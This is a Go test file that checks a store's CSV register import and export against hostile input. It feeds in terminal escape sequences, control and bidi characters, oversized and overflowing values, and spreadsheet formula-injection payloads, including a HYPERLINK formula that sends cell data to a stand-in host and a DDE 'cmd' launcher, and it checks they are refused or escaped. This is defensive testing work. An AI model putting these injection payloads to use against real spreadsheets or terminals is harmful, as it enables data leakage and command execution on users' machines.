package store

import (
	"bytes"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"
)

// state is what a failed import must leave as it was: the trail's length
// and the register's bytes.
func state(t *testing.T, s *Store) string {
	t.Helper()
	var b bytes.Buffer
	if err := s.ExportRegister(&b); err != nil {
		t.Fatal(err)
	}
	last, _ := s.Audit(AuditFilter{Limit: 1})
	seq := uint64(0)
	if len(last) > 0 {
		seq = last[0].Seq
	}
	return b.String() + "\n" + strings.Repeat("#", int(seq))
}

const regHeader = "id,name,categories,postcode,core_weekly_pence\n"

func TestHostileRegisterCSV(t *testing.T) {
	s := openTest(t, "")
	if _, err := s.ImportRegister(strings.NewReader(regHeader+"E-1,Oak School,sen,RH12 1AB,150000\n"), nil); err != nil {
		t.Fatal(err)
	}
	before := state(t, s)
	for _, c := range []struct{ name, csv, want string }{
		{"stray quote in the first column", regHeader + "E\"-2,Ash,sen,RH12 1AB,1\n", `line 2: at character 2: bare " in non-quoted-field`},
		{"stray quote opening the first column", regHeader + "\"E-2,Ash,sen,RH12 1AB,1\n", `line 2: at character 25: extraneous or missing " in quoted-field`},
		{"Latin-1 text", regHeader + "E-2,Caf\xe9 School,sen,RH12 1AB,1\n", "line 2: name: byte 0xE9 at character 4 is not UTF-8 (save the file as UTF-8, or give --encoding latin1"},
		{"an escape sequence in a name", regHeader + "E-2,\x1b]2;PWNED\x07\x1b[2J,sen,RH12 1AB,1\n", "line 2: name: holds a control character (U+001B) at character 1"},
		{"a NUL in an id", regHeader + "E-\x002,Ash,sen,RH12 1AB,1\n", "line 2: id: holds a control character (U+0000)"},
		{"a line break in a quoted name", regHeader + "E-2,\"Ash\nSchool\",sen,RH12 1AB,1\n", "line 2: name: holds a control character (U+000A)"},
		{"a name of 20 MB", regHeader + "E-2," + strings.Repeat("A", 20<<20) + ",sen,RH12 1AB,1\n", "line 2: name: the cell is 20971520 bytes long: at most 16384"},
		{"a name of 201 characters", regHeader + "E-2," + strings.Repeat("é", 201) + ",sen,RH12 1AB,1\n", "line 2: name: is 201 characters long: at most 200"},
		{"a provider name of 201 characters", "id,name,provider,categories,postcode,core_weekly_pence\nE-2,Ash," + strings.Repeat("P", 201) + ",sen,RH12 1AB,1\n", "line 2: provider: is 201 characters long: at most 200"},
		{"a weekly cost of 2^63-1", regHeader + "E-2,Ash,sen,RH12 1AB,9223372036854775807\n", "line 2: core_weekly_pence: 9223372036854775807 is over £100,000.00 a week"},
		{"a weekly cost of £100,000.01", regHeader + "E-2,Ash,sen,RH12 1AB,10000001\n", "line 2: core_weekly_pence: 10000001 is over £100,000.00 a week"},
		{"a method score of NaN", "id,name,categories,postcode,core_weekly_pence,workforce\nE-2,Ash,sen,RH12 1AB,1,NaN\n", `line 2: workforce: "NaN" is not a number from 0 to 100`},
		{"a bad third row after good ones", regHeader + "E-2,Ash,sen,RH12 1AB,1\nE-3,Elm\x07,sen,RH12 1AB,1\n", "line 3: name: holds a control character (U+0007)"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, err := s.ImportRegister(strings.NewReader(c.csv), nil)
			var ie *ImportError
			if !errors.As(err, &ie) || !strings.Contains(err.Error(), c.want) {
				t.Errorf("err = %v\nwant %q", err, c.want)
			}
			if after := state(t, s); after != before {
				t.Errorf("a failed import changed the store")
			}
		})
	}
}

func TestLatin1IsConvertedWhenSaid(t *testing.T) {
	s := openTest(t, "")
	data, err := DecodeText([]byte(regHeader+"E-2,Caf\xe9 School,sen,RH12 1AB,1\n"), "latin1")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.ImportRegister(bytes.NewReader(data), nil); err != nil {
		t.Fatal(err)
	}
	if e, _ := s.Establishment("E-2"); e.Name != "Café School" {
		t.Errorf("name %q", e.Name)
	}
	if _, err := DecodeText(nil, "ebcdic"); err == nil {
		t.Error("an unknown encoding was accepted")
	}
}

func TestExportedCSVCannotRunFormulas(t *testing.T) {
	s := openTest(t, "")
	in := regHeader +
		"E-1,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\",sen,RH12 1AB,1\n" +
		"E-2,+cmd|' /C calc'!A0,sen,RH12 1AB,1\n" +
		"E-3,@SUM(1+1),sen,RH12 1AB,1\n" +
		"E-4,-2+3,sen,RH12 1AB,1\n"
	if _, err := s.ImportRegister(strings.NewReader(in), nil); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := s.ExportRegister(&out); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`E-1,"'=HYPERLINK(`, `E-2,'+cmd|`, `E-3,'@SUM(1+1)`, `E-4,'-2+3`} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("export lacks %q:\n%s", want, out.String())
		}
	}
	// The export imports back as the same names, and exports the same.
	if res, err := s.ImportRegister(bytes.NewReader(out.Bytes()), nil); err != nil || res.Unchanged != 4 {
		t.Fatalf("re-import %+v %v", res, err)
	}
	if e, _ := s.Establishment("E-3"); e.Name != "@SUM(1+1)" {
		t.Errorf("name after the round trip %q", e.Name)
	}
	var again bytes.Buffer
	s.ExportRegister(&again)
	if again.String() != out.String() {
		t.Error("export → import → export changed the bytes")
	}
}

func TestSafeCellAndPrintable(t *testing.T) {
	for in, want := range map[string]string{"=1+1": "'=1+1", "+x": "'+x", "-x": "'-x", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"-12.5": "-12.5", "+44": "+44", "Oak": "Oak", "": "", "a=b": "a=b"} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Printable("\x1b]2;PWNED\x07\x1b[2JOak\u202eSchool\x00\n"); got != "?]2;PWNED??[2JOak?School??" {
		t.Errorf("Printable = %q", got)
	}
}

func TestHostileEstablishmentFieldsAreRefused(t *testing.T) {
	s := openTest(t, "")
	e := sampleEstablishment("E-1")
	e.Name = "Oak\x1b[2J"
	e.Town = strings.Repeat("t", 101)
	e.Needs = []string{"ASD\x07"}
	err := s.SaveEstablishment(e, "")
	for _, want := range []string{"name: holds a control character (U+001B)", "town: is 101 characters long", "needs: item"} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("err = %v, want %q", err, want)
		}
	}
}

func FuzzRegisterCSV(f *testing.F) {
	for _, seed := range []string{goodCSV, regHeader + "E\"-2,Ash,sen,RH12 1AB,1\n", regHeader + "\"E-2,Ash\n",
		regHeader + "E-2,Caf\xe9,sen,RH12 1AB,1\n", regHeader + "E-2,\x1b]2;PWNED\x07,sen,RH12 1AB,1\n",
		regHeader + "E-2,Ash,sen,RH12 1AB,9223372036854775807\n", "\"", "id\n\"", ",,,\n,,,\n"} {
		f.Add([]byte(seed))
	}
	s := openTest(f, "")
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, errs := s.readRegisterCSV(bytes.NewReader(data))
		if len(errs) == 0 {
			for _, r := range rows {
				if msg := textProblem(r.e.Name, MaxNameLen); msg != "" {
					t.Fatalf("accepted a name that %s", msg)
				}
			}
		}
		for _, e := range errs {
			if e.Line < 0 || strings.ContainsAny(e.String(), "\x1b\x07\x00") {
				t.Fatalf("error %q", e.String())
			}
		}
	})
}

func FuzzBidsCSV(f *testing.F) {
	head := strings.Join(bidColumns, ",") + "\n"
	for _, seed := range []string{head + "E-1,1000,0,5,ASD,,72.5,2026-11-25T10:00:00Z\n", head + "E\"-1,1000\n", "\"" + head,
		head + "E-1,9223372036854775807,0,,,,50,2026-11-25T10:00:00Z\n", head + "E-\xe9,1,0,,,,50,2026-11-25T10:00:00Z\n",
		head + "\x1b[2J,1,0,,,,NaN,2026-11-25T10:00:00Z\n"} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, errs := parseBids("R-1", data)
		if len(errs) == 0 {
			for _, r := range rows {
				if r.b.CoreWeeklyPence > MaxWeeklyPence || r.b.VariableWeeklyPence > MaxWeeklyPence || textProblem(r.b.Establishment, maxCell) != "" {
					t.Fatalf("accepted %+v", r.b)
				}
			}
		}
	})
}

// Every record, whatever writes it, refuses control characters: here a
// suspension's reason.
func TestEveryRecordRefusesControlCharacters(t *testing.T) {
	s := openTest(t, "")
	if err := s.SaveEstablishment(sampleEstablishment("E-1"), ""); err != nil {
		t.Fatal(err)
	}
	before := state(t, s)
	err := s.Suspend("E-1", "insurance", "lapsed\x1b[2J\x07")
	if err == nil || !strings.Contains(err.Error(), "holds a control character (U+001B)") {
		t.Errorf("suspend: %v", err)
	}
	if state(t, s) != before {
		t.Error("the refused change was written")
	}
	if _, err := Open(filepath.Join(t.TempDir(), "x.db"), Options{Actor: "a\x1b]2;x\x07"}); err == nil {
		t.Error("an actor with escape codes was accepted")
	}
}

func TestCheckJSONText(t *testing.T) {
	for _, c := range []struct {
		v    any
		want string
	}{
		{map[string]string{"a": "Oak <School> & \"Co\" \\ é ✓"}, ""},
		{map[string]string{"a": "x\x1b[2J"}, "U+001B"},
		{map[string]string{"a": "x\ny"}, "line break"},
		{map[string]string{"a": "x\u202ey"}, "U+202E"},
		{map[string]string{"a": "x\u0085y"}, "U+0085"},
		{map[string]string{"a": "x\x7fy"}, "U+007F"},
		{[]string{strings.Repeat("é", MaxNoteLen)}, ""},
		{[]string{strings.Repeat("é", MaxNoteLen+1)}, "over 4000"},
	} {
		data, _ := json.Marshal(c.v)
		err := checkJSONText("r", data)
		if (c.want == "") != (err == nil) || err != nil && !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: %v, want %q", data, err, c.want)
		}
	}
}
